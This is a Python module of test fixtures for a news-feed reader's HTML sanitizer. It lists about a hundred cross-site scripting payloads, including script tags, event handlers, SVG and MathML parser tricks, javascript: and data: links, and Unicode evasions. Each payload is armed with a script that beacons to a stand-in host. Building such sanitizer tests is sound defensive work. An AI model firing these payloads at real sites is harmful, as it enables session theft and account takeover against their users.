"""Scripts that outlets might try to run in a reader's browser, each in the words of its own trick.

In a payload, ``@`` stands for a script that opens a dialogue, sets a mark on the window and asks another host for something.
"""

from __future__ import annotations

MARK = "__xss"
ELSEWHERE = "elsewhere.example"
SCRIPT = f"window.{MARK}=1;alert(1);new Image().src=`//{ELSEWHERE}/run`"

# HTML that stands in titles, summaries, bodies, authors and categories
HTML: dict[str, str] = {
    # plain ways
    "script": "<script>@</script>",
    "script in capitals": "<ScRiPt >@</sCrIpT\t\n>",
    "script with a slash": "<script/x>@</script/>",
    "script that is not closed": "<script>@//",
    "script in a script": "<scr<script>ipt>@</scr</script>ipt>",
    "script from elsewhere": f"<script src=//{ELSEWHERE}/x.js></script>",
    "module": f"<script type=module>import '//{ELSEWHERE}/m.js'</script>",
    "script in entities, twice": "&lt;script&gt;@&lt;/script&gt;",
    "script after a NUL": "<\x01script>@</script><scri\x01pt>@</script>",
    # handlers
    "picture with a handler": '<img src=x onerror="@">',
    "picture without blanks": '<img/src="x"/onerror="@">',
    "picture with a line break": '<img src=x\nonerror\n=\n"@">',
    "picture with a form feed": '<img\x0csrc=x\x0conerror="@">',
    "picture without an end": '<img src=x onerror="@" ',
    "picture with two sources": '<img src="a" src=x onerror="@" srcset="//elsewhere.example/s 2x">',
    "source out of its quotes": '<img src="x` `<script>@</script>"` `>',
    "attribute out of its quotes": '"><img src=x onerror="@"><a title="',
    "attribute out of single quotes": "'><img src=x onerror=\"@\"><a title='",
    "attribute out of a backquote": '`><img src=x onerror="@">',
    "alternative text": '<img alt="<x" title="/><img src=x onerror=\'@\'>">',
    "body": '<body onload="@" onpageshow="@">',
    "details": '<details open ontoggle="@"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="@"><a href=# autofocus tabindex=1 onfocus="@">x</a>',
    "marquee": '<marquee onstart="@" behavior=alternate>x</marquee>',
    "video": '<video autoplay onloadstart="@"><source src=x onerror="@"></video>',
    "audio": '<audio src=x onerror="@">',
    "animation": "<style>@keyframes x{}</style>".replace("@", "&#64;") + '<p style="animation-name:x" onanimationstart="@">x</p>',
    "transition": '<p id=x tabindex=1 style="transition:outline 1s" ontransitionend="@"></p>',
    "pointer over everything": '<p style="position:fixed;inset:0;z-index:9" onpointerenter="@" onmousemove="@" onclick="@">x</p>',
    "beforematch": '<p hidden=until-found onbeforematch="@">نص</p>',
    "popover": '<button popovertarget=x>y</button><p popover id=x onbeforetoggle="@">x</p>',
    "content visibility": '<p oncontentvisibilityautostatechange="@" style="content-visibility:auto">x</p>',
    # other grammars
    "svg": '<svg onload="@">',
    "svg script": "<svg><script>@</script></svg>",
    "svg script in entities": "<svg><script>&#119;indow.__xss=1</script></svg>",
    "svg animation": '<svg><animate onbegin="@" attributeName=x dur=1s></svg>',
    "svg link that is set": '<svg><a><animate attributeName=href values="javascript:@"/><text y=20>x</text></a></svg>',
    "svg use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@'/></svg>#x\"></svg>",
    "svg foreign object": '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="@"/></foreignObject></svg>',
    "svg style": '<svg><style><img src=x onerror="@"></style></svg>',
    "math link": '<math href="javascript:@"><mtext>x</mtext></math>',
    "math that moves": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
    "math annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror="@"></style></annotation-xml></math>',
    "table that moves": "<svg></p><style><a id=\"</style><img src=1 onerror='@'>\">",
    "form that moves": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="@">',
    "select that moves": '<select><template><style><!--</template></select><img src=x onerror="@">-->',
    # raw text
    "template": '<template><script>@</script></template><template shadowrootmode=open><img src=x onerror="@"></template>',
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror='@'>\"></noscript>",
    "textarea": "<textarea><p title=\"</textarea><img src=x onerror='@'>\"></textarea>",
    "title": "<title><a title=\"</title><img src=x onerror='@'>\"></title>",
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror='@'>\"></xmp>",
    "noembed": "<noembed><img title=\"</noembed><img src onerror='@'>\"></noembed>",
    "plaintext": '<plaintext></plaintext><img src=x onerror="@">',
    "comment": '<!--><img src=x onerror="@">-->',
    "comment with a bang": '<!-- --!><img src=x onerror="@">-->',
    "comment that is conditional": '<!--[if gte IE 4]><script>@</script><![endif]--><![CDATA[<img src=x onerror="@">]]>',
    "processing instruction": '<?xml-stylesheet href="javascript:@"?><?x ><img src=x onerror="@">',
    "doctype": "<!DOCTYPE x [<!ENTITY y '<script>@</script>'>]>&y;",
    # what loads or leads elsewhere
    "frame": '<iframe src="javascript:@"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>@</script>"></iframe>',
    "frame from elsewhere": f"<iframe src=//{ELSEWHERE}/frame></iframe><frameset><frame src=//{ELSEWHERE}/f></frameset>",
    "player in a frame": f'<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa&quot; onload=&quot;@"></iframe><iframe src=//{ELSEWHERE}/embed/x>',
    "object": '<object data="javascript:@"></object><object data="data:text/html,<script>@</script>"></object>',
    "embed": "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>\">",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:@">',
    "refresh to elsewhere": f'<meta http-equiv="refresh" content="0; url=https://{ELSEWHERE}/refresh">',
    "base": f'<base href="https://{ELSEWHERE}/"><a href=/x>x</a><img src=/picture.png>',
    "form": f'<form action=//{ELSEWHERE}/form><button formaction="javascript:@" autofocus>x</button></form>',
    "style from elsewhere": f"<style>*{{background:url(//{ELSEWHERE}/css)}}</style><link rel=stylesheet href=//{ELSEWHERE}/l.css>",
    "style import": f'<style>@import "//{ELSEWHERE}/i.css";</style>'.replace("@import", "&#64;import"),
    "style of an element": f'<p style="background-image:url(https://{ELSEWHERE}/bg);list-style:url(//{ELSEWHERE}/li)">نص</p>',
    "style with a behaviour": '<p style="width:expression(@);behavior:url(x);-moz-binding:url(x)">نص</p>',
    "preload": f"<link rel=preload as=image href=//{ELSEWHERE}/p><link rel=dns-prefetch href=//{ELSEWHERE}><link rel=manifest href=//{ELSEWHERE}/m>",
    "picture set": f'<picture><source srcset="//{ELSEWHERE}/a.webp"><img srcset="//{ELSEWHERE}/b 2x" sizes=1px></picture>',
    "table background": f'<table background="//{ELSEWHERE}/t"><td background="javascript:@">x</table>',
    "ping": f'<a href="/" ping="//{ELSEWHERE}/ping">x</a>',
    "lazy picture": '<img data-src="javascript:@" data-lazy-src=\'x" onerror="@\' src=data:,>',
    "lazy picture out of its quotes": "<img data-src='https://x.example/a.png\" onerror=\"@' src='data:,'>",
    # addresses that run
    "link": '<a href="javascript:@">اقرأ</a>',
    "link with a tab": '<a href="java\tscript:@">اقرأ</a>',
    "link with a line break": '<a href="\njava\nscript\n:@">اقرأ</a>',
    "link in entities": '<a href="&#106;&#x61;vascript&colon;@">اقرأ</a>',
    "link behind a control": '<a href="\x01javascript:@">اقرأ</a><a href="&#1;javascript:@">اقرأ</a>',
    "link of data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">اقرأ</a>',
    "link of visual basic": '<a href="vbscript:msgbox(1)">اقرأ</a><a href="livescript:@">x</a>',
    "link of a blob": '<a href="blob:https://x/1">x</a><a href="filesystem:x">y</a><a href="view-source:javascript:@">z</a>',
    "link target": '<a href="http://x.example/" target="_top" onclick="@" rel=opener>x</a>',
    # letters
    "wide letters": "＜script＞@＜/script＞<ſcript>@</ſcript>",
    "letters that fold": '<ımg src=x onerror="@"><K onclick="@"><ﬁgure onload="@">',
    "letters from right to left": "\u202e<script>@</script>\u202c<\u202escript>@</script>",
    "zero width inside": "<scr\u200bipt>@</script><img src=x on\u200derror='@'>",
    "lead bytes": '<img alt="\xe0\xa4" title=\'" onerror="@" x=\'>',
    "utf-7": "+ADw-script+AD4-@+ADw-/script+AD4-",
    "long tag": "<" + "a" * 5_000 + ' onclick="@"><img src=x onerror="@">',
    "many tags": "<b>" * 600 + '<img src=x onerror="@">',
    # what templates of pages might run
    "template words": "{{constructor.constructor('@')()}} ${@} <%= @ %> #{@} [[@]]",
    "htmx": f'<div hx-get="//{ELSEWHERE}/hx" hx-trigger="load" hx-on:load="@" hx-on::load="@" data-hx-get="//{ELSEWHERE}/hx">x</div>',
    "script end in JSON": "</script><script>@</script>",
    "script end in JSON, upper case": "</SCRIPT ><svg onload='@'>",
    "script start in a comment": "<!--<script>@",
    "line separators in JSON": "\u2028@\u2029//</script><img src=x onerror='@'>",
    "end of CDATA": "]]><script>@</script>",
    "end of an attribute and a tag": "' \"></a></p></h1></title></textarea><script>@</script>",
    "backslash": '\\"><script>@</script>\\u003cscript\\u003e@\\u003c/script\\u003e',
}

# addresses of articles and pictures
ADDRESSES: tuple[str, ...] = (
    "javascript:@",
    "JaVaScRiPt:@",
    " javascript:@",
    "java\tscript:@",
    "javascript&colon;@",
    "\x01javascript:@",
    "//javascript:@",
    "javascript://x.example/%0a@",
    "javascript:/*x.example*/@",
    "data:text/html,<script>@</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
    "vbscript:@",
    "blob:http://x.example/1",
    "http://x.example/\"onmouseover='@'x=\"",
    "http://x.example/'><script>@</script>",
    "http://x.example/`onfocus=@ autofocus x=`",
    "http:\\\\x.example\\<script>@</script>",
    "view-source:javascript:@",
)


def armed(payload: str) -> str:
    """Put the script into a payload (its own quotes never end the payload's)."""
    return payload.replace("@", SCRIPT)
